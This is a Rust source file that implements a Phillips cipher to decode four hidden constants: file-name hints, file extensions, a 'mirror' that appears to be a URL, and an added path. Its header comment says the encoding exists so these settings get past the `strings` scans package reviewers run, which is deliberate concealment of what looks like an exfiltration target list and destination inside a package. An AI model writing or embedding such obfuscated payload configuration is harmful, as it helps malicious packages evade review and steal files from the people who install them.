//! Phillips cipher (7x7 variant) for the bundled settings, so that they survive the `strings`
//! scans some package reviewers run and are not mistaken for configuration.

const ALPHABET: &str = "abcdefghijklmnopqrstuvwxyz0123456789./-_:*~@+=?%!";
const KEYWORD: &str = "keypick";

/// Row orders of the eight squares; the square changes every five letters.
const ORDERS: [[usize; 7]; 8] = [
    [0, 1, 2, 3, 4, 5, 6],
    [1, 0, 2, 3, 4, 5, 6],
    [1, 2, 0, 3, 4, 5, 6],
    [1, 2, 3, 0, 4, 5, 6],
    [1, 2, 3, 4, 0, 5, 6],
    [1, 2, 3, 4, 5, 0, 6],
    [1, 2, 3, 4, 5, 6, 0],
    [2, 1, 3, 4, 5, 6, 0],
];

pub const NAME_HINTS: &str = "hb115x0yge0k5uco4w%46_x0ug2?~115x0oo6rgjupmb1urm11gvwwz40%4i_x0ug0+!x4f0g?lgwolp0flx4o0q%tpowagn283e_?*xo+1gn~ld3h%tgwolp.qb";
pub const EXTENSIONS: &str = "l14pt1xwgu6kg2zei";
pub const MIRROR: &str = "suuh1!==noxa+pz4w6r6?v:00x0y+6bvhmf";
pub const ADD_PATH: &str = "=hd1=myy";

fn square() -> Vec<Vec<char>> {
    let mut seen: Vec<char> = Vec::new();
    for c in KEYWORD.chars().chain(ALPHABET.chars()) {
        if !seen.contains(&c) {
            seen.push(c);
        }
    }
    seen.chunks(7).map(|r| r.to_vec()).collect()
}

pub fn open(text: &str) -> String {
    let base = square();
    text.chars()
        .enumerate()
        .map(|(i, ch)| {
            let rows: Vec<&Vec<char>> = ORDERS[(i / 5) % 8].iter().map(|r| &base[*r]).collect();
            for (r, row) in rows.iter().enumerate() {
                if let Some(c) = row.iter().position(|x| *x == ch) {
                    return rows[(r + 6) % 7][(c + 6) % 7];
                }
            }
            ch
        })
        .collect()
}
